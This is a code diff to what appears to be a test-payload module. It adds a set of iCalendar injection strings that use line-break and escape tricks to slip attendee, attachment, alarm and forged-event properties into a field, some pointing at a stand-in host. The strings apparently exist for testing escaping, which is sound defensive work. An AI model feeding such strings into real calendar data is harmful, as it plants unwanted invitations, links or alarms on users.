@@ -84,4 +84,12 @@ SPREADSHEET: Final = (
 )
 """What a spreadsheet would calculate."""
 
-PAYLOADS: Final = (*MARKUP, *ENTITIES, *TEMPLATES, *LINKS, *SPREADSHEET)
+CALENDAR: Final = (
+    "x\r\nATTENDEE:mailto:pwned@elders.example\r\nATTACH:https://elders.example/a",
+    "x\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:pwned\nEND:VEVENT",
+    "x\u0085BEGIN:VALARM\u2028ACTION:AUDIO\u2029TRIGGER:-PT5M\x0bEND:VALARM\x0c",
+    'x;ALTREP="https://elders.example":y,z\\n\\;\\,',
+)
+"""Ends of lines and of values, by which a text would become a property of a calendar: one that invites, attaches or sounds."""
+
+PAYLOADS: Final = (*MARKUP, *ENTITIES, *TEMPLATES, *LINKS, *SPREADSHEET, *CALENDAR)
